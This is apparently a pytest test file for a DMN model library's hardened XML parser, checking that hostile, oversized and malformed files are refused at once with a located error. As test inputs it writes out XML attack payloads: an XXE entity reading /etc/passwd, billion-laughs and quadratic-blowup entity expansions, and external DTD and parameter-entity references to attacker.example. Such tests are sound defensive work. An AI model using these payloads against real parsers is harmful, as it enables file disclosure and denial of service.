"""parse_xml refuses hostile and broken files with one located ModelError, never expanding anything."""
from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from dmnlaw.errors import ModelError
from dmnlaw.xml import safe
from dmnlaw.xml.safe import MAX_DEPTH, parse_xml

DMN15 = "https://www.omg.org/spec/DMN/20230324/MODEL/"


def write(tmp_path: Path, content: str | bytes, name: str = "model.dmn") -> Path:
    path = tmp_path / name
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return path


def refused(path: Path) -> ModelError:
    start = time.perf_counter()
    with pytest.raises(ModelError) as info:
        parse_xml(path)
    # Hostile input must be refused at once, not after expanding it.
    assert time.perf_counter() - start < 2
    error = info.value
    assert error.file == str(path)
    assert str(error).startswith(f"{path}")
    assert "\n" not in str(error)
    return error


def test_well_formed_file_parses_with_lines(tmp_path):
    path = write(tmp_path, f'<?xml version="1.0"?>\n<definitions xmlns="{DMN15}">\n'
                           f'  <!-- a comment -->\n  <decision name="a"/>\n</definitions>\n')
    root = parse_xml(path).getroot()
    assert root.sourceline == 2
    children = list(root)
    assert len(children) == 1, "comments are dropped"
    assert children[0].sourceline == 4


def test_xxe_to_etc_passwd(tmp_path):
    path = write(tmp_path, '<?xml version="1.0"?>\n'
                           '<!DOCTYPE definitions [\n'
                           '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
                           ']>\n'
                           f'<definitions xmlns="{DMN15}" name="&xxe;"/>\n')
    error = refused(path)
    assert "DOCTYPE" in error.message
    assert error.line == 2
    assert "root:" not in str(error)


def test_xxe_without_doctype_is_an_undefined_entity(tmp_path):
    path = write(tmp_path, f'<definitions xmlns="{DMN15}">\n<description>&xxe;</description>\n'
                           '</definitions>')
    error = refused(path)
    assert "not well-formed" in error.message and "xxe" in error.message
    assert error.line == 2


def test_billion_laughs(tmp_path):
    entities = ['<!ENTITY lol "lol">']
    entities += [f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'
                 for i in range(1, 10)]
    path = write(tmp_path, '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(entities)
                 + f'\n]>\n<definitions xmlns="{DMN15}">&lol9;</definitions>\n')
    error = refused(path)
    assert "DOCTYPE" in error.message


def test_quadratic_blowup(tmp_path):
    big = "A" * 100_000
    path = write(tmp_path, f'<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "{big}">]>\n'
                           f'<definitions xmlns="{DMN15}">' + "&a;" * 10_000 + "</definitions>")
    error = refused(path)
    assert "DOCTYPE" in error.message


def test_external_dtd(tmp_path):
    path = write(tmp_path, '<?xml version="1.0"?>\n'
                           '<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">\n'
                           f'<definitions xmlns="{DMN15}"/>\n')
    error = refused(path)
    assert "DOCTYPE" in error.message
    assert error.line == 2


def test_parameter_entities_in_internal_subset(tmp_path):
    path = write(tmp_path, '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x">'
                           '%remote;]>\n<d/>')
    assert "DOCTYPE" in refused(path).message


def test_doctype_in_utf16_file(tmp_path):
    text = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY a "b">]>\n'
            f'<definitions xmlns="{DMN15}">&a;</definitions>')
    assert "DOCTYPE" in refused(write(tmp_path, text.encode("utf-16"))).message


def test_deeply_nested(tmp_path):
    depth = MAX_DEPTH + 1
    path = write(tmp_path, "<a>\n" * depth + "</a>" * depth)
    error = refused(path)
    assert f"more than {MAX_DEPTH} levels" in error.message
    assert error.line == MAX_DEPTH + 1


def test_nested_beyond_libxml_limit_gets_same_message(tmp_path):
    path = write(tmp_path, "<a>" * 10_000 + "</a>" * 10_000)
    assert f"more than {MAX_DEPTH} levels" in refused(path).message


def test_nesting_at_the_limit_is_fine(tmp_path):
    path = write(tmp_path, "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH)
    parse_xml(path)


def test_truncated_file(tmp_path):
    path = write(tmp_path, f'<?xml version="1.0"?>\n<definitions xmlns="{DMN15}">\n'
                           '  <decision name="a">\n    <literalExpression><te')
    error = refused(path)
    assert "not well-formed" in error.message
    assert error.line == 4


def test_binary_garbage(tmp_path):
    path = write(tmp_path, bytes(range(256)) * 4)
    error = refused(path)
    assert "not well-formed" in error.message
    assert error.line == 1


def test_empty_file(tmp_path):
    assert "empty" in refused(write(tmp_path, b"")).message


def test_blank_file(tmp_path):
    assert "empty" in refused(write(tmp_path, b"  \n\t\n")).message


def test_missing_file(tmp_path):
    error = refused(tmp_path / "nowhere.dmn")
    assert "does not exist" in error.message
    assert error.line is None


def test_folder_is_not_a_file(tmp_path):
    assert "folder" in refused(tmp_path).message


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0,
                    reason="root reads files whatever their mode")
def test_unreadable_file(tmp_path):
    path = write(tmp_path, f'<definitions xmlns="{DMN15}"/>')
    path.chmod(0)
    try:
        assert "cannot be read" in refused(path).message
    finally:
        path.chmod(0o644)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_fifo_is_refused_without_blocking(tmp_path):
    path = tmp_path / "pipe.dmn"
    os.mkfifo(path)
    assert "regular file" in refused(path).message


def test_too_large(tmp_path, monkeypatch):
    monkeypatch.setattr(safe, "MAX_BYTES", 100)
    path = write(tmp_path, f'<definitions xmlns="{DMN15}">' + " " * 200 + "</definitions>")
    error = refused(path)
    assert "limit" in error.message


def test_iso_8859_1_declared_encoding(tmp_path):
    text = (f'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
            f'<definitions xmlns="{DMN15}" name="Café"/>')
    root = parse_xml(write(tmp_path, text.encode("iso-8859-1"))).getroot()
    assert root.get("name") == "Café"


def test_utf16_with_bom(tmp_path):
    text = f'<?xml version="1.0" encoding="UTF-16"?>\n<definitions xmlns="{DMN15}" name="刑法"/>'
    root = parse_xml(write(tmp_path, text.encode("utf-16"))).getroot()
    assert root.get("name") == "刑法"


def test_unknown_encoding(tmp_path):
    path = write(tmp_path, '<?xml version="1.0" encoding="no-such-codec"?>\n<a/>')
    assert refused(path).line == 1
